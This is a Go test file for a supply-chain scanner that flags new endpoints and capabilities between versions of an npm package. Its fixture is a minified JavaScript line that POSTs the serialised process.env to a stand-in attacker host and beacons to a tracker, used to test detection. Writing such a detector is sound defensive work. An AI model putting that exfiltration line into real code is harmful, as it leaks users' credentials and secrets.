package signals

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

const explainBefore = "#!/usr/bin/env node\nvar a=require(\"./a\");function main(){console.log(a)}main();\n"

// explainAfter gains two endpoints and two capabilities on its (minified) second line.
const explainAfter = "#!/usr/bin/env node\nvar a=require(\"./a\");function main(){console.log(a);" +
	"fetch(\"https://collect.evil-metrics.xyz/x\",{method:\"POST\",body:JSON.stringify(process.env)});" +
	"navigator.sendBeacon(\"https://beacon.tracker.io/b\")}main();\n"

func TestDeltaChangesIsDelta(t *testing.T) {
	from := pkg("dist/index.js", explainBefore, "package.json", `{"name":"x","version":"1.0.0","bin":"dist/index.js"}`)
	to := pkg("dist/index.js", explainAfter, "package.json", `{"name":"x","version":"1.1.0","bin":"dist/index.js"}`)
	c := DeltaChanges(from, to)
	if want := Delta(from, to); !reflect.DeepEqual(c.Findings, want) {
		t.Fatalf("DeltaChanges findings differ from Delta:%s\nwant:%s", dump(c.Findings), dump(want))
	}
	if c.From != from || c.To != to {
		t.Error("From/To not kept")
	}
	vals, partial := c.NewValues("dist/index.js")
	if partial != "" {
		t.Errorf("partial %q", partial)
	}
	var keys []string
	for _, v := range vals {
		keys = append(keys, v.Rule+" "+v.Key)
		if v.Path != "dist/index.js" || v.Line != 2 || v.Snippet == "" {
			t.Errorf("value %+v: want dist/index.js:2 with a snippet", v)
		}
	}
	want := []string{
		RuleNewCapability + " fetch",
		RuleNewEndpoint + " host:collect.evil-metrics.xyz",
		RuleNewCapability + " env-serialisation",
		RuleNewEndpoint + " host:beacon.tracker.io",
	}
	if !reflect.DeepEqual(keys, want) {
		t.Errorf("values %q, want %q", keys, want)
	}
	// Every Delta finding about a value carries the message of that value.
	msgs := map[string]bool{}
	for _, v := range vals {
		msgs[v.Message] = true
	}
	n := 0
	for _, f := range c.Findings {
		if f.Rule == RuleNewEndpoint || f.Rule == RuleNewCapability {
			n++
			if !msgs[f.Message] {
				t.Errorf("finding %q has no value", f.Message)
			}
		}
	}
	if n != len(vals) {
		t.Errorf("%d findings, %d values", n, len(vals))
	}
	// Files that did not gain anything, are not scanned, or do not exist yield nothing.
	for _, p := range []string{"package.json", "missing.js"} {
		if v, partial := c.NewValues(p); len(v) != 0 || partial != "" {
			t.Errorf("NewValues(%q) = %v, %q", p, v, partial)
		}
	}
	// Without a previous version nothing is new.
	if v, _ := DeltaChanges(nil, to).NewValues("dist/index.js"); v != nil {
		t.Errorf("added package: values %v", v)
	}
	var nilChanges *Changes
	if v, _ := nilChanges.NewValues("x.js"); v != nil || DeltaChanges(from, nil).Findings != nil {
		t.Error("nil inputs must give nothing")
	}
}

// Values beyond what Delta lists (MaxFindingsPerRule per rule) are still values.
func TestNewValuesBeyondListedFindings(t *testing.T) {
	var b strings.Builder
	n := MaxFindingsPerRule + 5
	for i := range n {
		fmt.Fprintf(&b, "fetch(\"https://h%d.tracker.io/\");\n", i)
	}
	from := pkg("index.js", "console.log(1);\n")
	to := pkg("index.js", b.String())
	c := DeltaChanges(from, to)
	vals, _ := c.NewValues("index.js")
	var hosts int
	for _, v := range vals {
		if v.Rule == RuleNewEndpoint {
			hosts++
		}
	}
	if hosts != n {
		t.Errorf("%d endpoint values, want %d", hosts, n)
	}
	if got := len(ofRule(c.Findings, RuleNewEndpoint)); got != MaxFindingsPerRule+1 {
		t.Errorf("%d endpoint findings, want %d listed and one summary", got, MaxFindingsPerRule)
	}
}

// MaxFileScanBytes bounds the part of a file NewValues and Finder.Find read: at the limit all of it, one
// byte more and the rest is reported.
func TestExplainScanLimit(t *testing.T) {
	for _, extra := range []int{0, 1} {
		t.Run(fmt.Sprint(extra), func(t *testing.T) {
			call := "fetch(\"https://collect.evil-metrics.xyz/x\");\n"
			data := call + strings.Repeat("/", MaxFileScanBytes-len(call)-1) + "\n" + strings.Repeat(" ", extra)
			from := pkg("index.js", "console.log(1);\n")
			to := pkg("index.js", data)
			vals, partial := DeltaChanges(from, to).NewValues("index.js")
			if len(vals) != 2 {
				t.Errorf("%d values, want 2", len(vals))
			}
			if (partial != "") != (extra > 0) {
				t.Errorf("NewValues partial %q with %d bytes (limit %d)", partial, len(data), MaxFileScanBytes)
			}
			fd := NewFinder(vals)
			hits, partial := fd.Find("src/index.js", []byte(data))
			if len(hits) != 2 || fd.Remaining() != 0 {
				t.Errorf("hits %v, %d remaining", hits, fd.Remaining())
			}
			if (partial != "") != (extra > 0) {
				t.Errorf("Find partial %q with %d bytes (limit %d)", partial, len(data), MaxFileScanBytes)
			}
		})
	}
}

func TestFinder(t *testing.T) {
	from := pkg("dist/index.js", explainBefore)
	to := pkg("dist/index.js", explainAfter)
	vals, _ := DeltaChanges(from, to).NewValues("dist/index.js")
	type file struct{ name, data string }
	tests := []struct {
		name  string
		files []file
		hits  []string // "rule key line", in order
		left  int
	}{
		{name: "TypeScript source has it all",
			files: []file{{"src/index.ts", "const url: string = \"https://collect.evil-metrics.xyz/x\";\n\nexport async function send(): Promise<void> {\n  await fetch(url, { method: \"POST\", body: JSON.stringify(process.env) });\n  navigator.sendBeacon(\"https://beacon.tracker.io/b\");\n}\n"}},
			hits:  []string{RuleNewEndpoint + " host:collect.evil-metrics.xyz 1", RuleNewCapability + " fetch 4", RuleNewCapability + " env-serialisation 4", RuleNewEndpoint + " host:beacon.tracker.io 5"}},
		{name: "a capability named in prose is not code",
			files: []file{{"README.md", "We call fetch(url, {body: JSON.stringify(process.env)}) and post to https://beacon.tracker.io/b.\n"}},
			hits:  []string{RuleNewEndpoint + " host:beacon.tracker.io 1"}, left: 3},
		{name: "comments are not code",
			files: []file{{"src/a.js", "// fetch(\"https://collect.evil-metrics.xyz/x\")\nconsole.log(1);\n"}},
			left:  4},
		{name: "binary files hold nothing",
			files: []file{{"logo.bin", "\x00\x01https://beacon.tracker.io/b fetch("}},
			left:  4},
		{name: "a value is reported once, in the first file",
			files: []file{{"a.json", "{\"u\": \"https://beacon.tracker.io/b\"}\n"}, {"b.json", "\n\n{\"u\": \"https://beacon.tracker.io/b\"}\n"}},
			hits:  []string{RuleNewEndpoint + " host:beacon.tracker.io 1"}, left: 3},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := NewFinder(vals)
			if f.Remaining() != 4 {
				t.Fatalf("finder wants %d values, want 4", f.Remaining())
			}
			var got []string
			for _, fl := range tc.files {
				hits, partial := f.Find(fl.name, []byte(fl.data))
				if partial != "" {
					t.Errorf("%s: partial %q", fl.name, partial)
				}
				for _, h := range hits {
					got = append(got, fmt.Sprintf("%s %s %d", h.Rule, h.Key, h.Line))
				}
			}
			if !reflect.DeepEqual(got, tc.hits) && (len(got) != 0 || len(tc.hits) != 0) {
				t.Errorf("hits %q, want %q", got, tc.hits)
			}
			if f.Remaining() != tc.left {
				t.Errorf("%d remaining, want %d", f.Remaining(), tc.left)
			}
		})
	}
	if NewFinder([]Value{{Rule: RuleObfuscation, Key: "_0x"}}).Remaining() != 0 {
		t.Error("values of other rules must be ignored")
	}
}

// The Finder's lexer-error budget is shared by every file it reads: once spent, JavaScript is read as
// text (endpoints only) and Find says so.
func TestFinderLexErrorBudget(t *testing.T) {
	junk := strings.Repeat("\x01", MaxLexErrors)
	f := NewFinder([]Value{{Rule: RuleNewCapability, Key: "fetch"}, {Rule: RuleNewEndpoint, Key: "host:beacon.tracker.io"}})
	if _, partial := f.Find("junk.js", []byte(junk)); partial != "" {
		t.Errorf("exactly %d lexer errors: partial %q", MaxLexErrors, partial)
	}
	hits, partial := f.Find("src/send.js", []byte("fetch(\"https://beacon.tracker.io/b\");\n"))
	if partial == "" || !strings.Contains(partial, "read as text") {
		t.Errorf("budget spent: partial %q", partial)
	}
	if len(hits) != 1 || hits[0].Key != "host:beacon.tracker.io" || f.Remaining() != 1 {
		t.Errorf("budget spent: hits %v, %d remaining; want the endpoint only", hits, f.Remaining())
	}
}

func TestSafeName(t *testing.T) {
	for in, want := range map[string]string{
		"src/index.ts":           "src/index.ts",
		"src/\x1b[31mred.js":     "`src/?[31mred.js`",
		"a\u202eb.js":            "`a?b.js`",
		strings.Repeat("a", 300): strings.Repeat("a", 300),
		strings.Repeat("a", 301): "`" + strings.Repeat("a", 300) + "…`",
		"weird`name.js":          "`weird'name.js`",
		"line\nbreak.js":         "`line?break.js`",
		"\xff.js":                "`?.js`",
	} {
		if got := safeName(in); got != want {
			t.Errorf("safeName(%q) = %q, want %q", in, got, want)
		}
	}
}

// NewValues uses Delta's read of a file when no limit shared with the version's other files cut it short
// (the file is lexed once), and reads the file again by itself otherwise; either way it returns what a
// read of the file by itself finds.
func TestNewValuesReadsOnce(t *testing.T) {
	all := []string{
		RuleNewCapability + " fetch",
		RuleNewEndpoint + " host:collect.evil-metrics.xyz",
		RuleNewCapability + " env-serialisation",
		RuleNewEndpoint + " host:beacon.tracker.io",
	}
	junk := strings.Repeat("\x01", MaxLexErrors) // spends the version's whole lexer-error budget
	big := "fetch(\"https://collect.evil-metrics.xyz/x\");\n" + strings.Repeat("/", MaxFileScanBytes) + "\n"
	emails := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "'u%d@evil.com';\n", i)
		}
		return b.String()
	}
	full := strings.Repeat("\n", MaxFileScanBytes)
	var budgetFiles []string // files that spend the whole package scan budget before z.js
	for i := range MaxPackageScanBytes / MaxFileScanBytes {
		budgetFiles = append(budgetFiles, fmt.Sprintf("f%d.js", i), full)
	}
	tests := []struct {
		name     string
		from, to []string
		path     string
		once     bool     // Delta's read stands for NewValues'
		keys     []string // "rule key", in file order
		partial  string   // a part of partial ("" : none)
	}{
		{name: "changed file", from: []string{"b.js", explainBefore}, to: []string{"b.js", explainAfter},
			path: "b.js", once: true, keys: all},
		{name: "changed file over the per-file limit", from: []string{"b.js", explainBefore}, to: []string{"b.js", big},
			path: "b.js", once: true, keys: all[:2], partial: "were scanned (the per-file scan limit)"},
		{name: "lexer errors in the file itself", from: []string{"b.js", explainBefore},
			to:   []string{"b.js", "fetch(\"https://collect.evil-metrics.xyz/x\");" + junk + "\x01 navigator.sendBeacon(\"https://beacon.tracker.io/b\")"},
			path: "b.js", once: true, keys: []string{all[0], all[1], all[3]}, partial: "read as text (endpoints only) from byte"},
		{name: "lexer-error budget spent by an earlier file", from: []string{"a.js", "x", "b.js", explainBefore},
			to: []string{"a.js", junk, "b.js", explainAfter}, path: "b.js", keys: all},
		{name: "package scan budget spent by earlier files", from: []string{"z.js", explainBefore},
			to: append([]string{"z.js", explainAfter}, budgetFiles...), path: "z.js", keys: all},
		{name: "value limit reached by an earlier file", from: []string{"b.js", explainBefore},
			to: []string{"a.js", emails(MaxDistinctValues), "b.js", explainAfter}, path: "b.js", keys: all},
		{name: "unchanged file", from: []string{"a.js", "x", "b.js", explainAfter}, to: []string{"a.js", "y", "b.js", explainAfter},
			path: "b.js", once: true},
		{name: "unchanged file over the per-file limit", from: []string{"b.js", big}, to: []string{"b.js", big},
			path: "b.js", once: true, partial: "were scanned (the per-file scan limit)"},
		{name: "unchanged file the previous read as text", from: []string{"a.js", junk, "b.js", explainAfter},
			to: []string{"a.js", "x", "b.js", explainAfter}, path: "b.js", keys: []string{all[0], all[2]}},
		{name: "unchanged file whose values the previous version forgot", from: []string{"a.js", emails(MaxDistinctValues), "b.js", explainAfter},
			to: []string{"a.js", "x", "b.js", explainAfter}, path: "b.js", keys: all},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			from, to := pkg(tc.from...), pkg(tc.to...)
			c := DeltaChanges(from, to)
			s := c.d.scans[tc.path]
			if s == nil {
				s = c.d.prev.files[tc.path]
			}
			if once := s != nil && s.alone; once != tc.once {
				t.Errorf("Delta's read stands for NewValues': %v, want %v", once, tc.once)
			}
			vals, partial := c.NewValues(tc.path)
			var keys []string
			for _, v := range vals {
				keys = append(keys, v.Rule+" "+v.Key)
			}
			if !reflect.DeepEqual(keys, tc.keys) {
				t.Errorf("values %q, want %q", keys, tc.keys)
			}
			if (partial == "") != (tc.partial == "") || !strings.Contains(partial, tc.partial) {
				t.Errorf("partial %q, want one with %q", partial, tc.partial)
			}
			checkNewValuesAlone(t, c, tc.path)
		})
	}
}

// checkNewValuesAlone checks that c.NewValues returns, for the files paths of c.To (all when none are
// given), what a read of the file by itself returns.
func checkNewValuesAlone(t testing.TB, c *Changes, paths ...string) {
	t.Helper()
	r := DeltaChanges(c.From, c.To)
	if r.d == nil || r.d.prev == nil {
		return
	}
	clear(r.d.scans)
	for _, s := range r.d.prev.files {
		s.alone = false
	}
	if len(paths) == 0 {
		for _, f := range c.To.Files {
			paths = append(paths, f.Path)
		}
	}
	for _, p := range paths {
		vals, partial := c.NewValues(p)
		again, againPartial := r.NewValues(p)
		if !reflect.DeepEqual(vals, again) || partial != againPartial {
			t.Fatalf("NewValues(%q) = %+v, %q; read by itself: %+v, %q", p, vals, partial, again, againPartial)
		}
	}
}
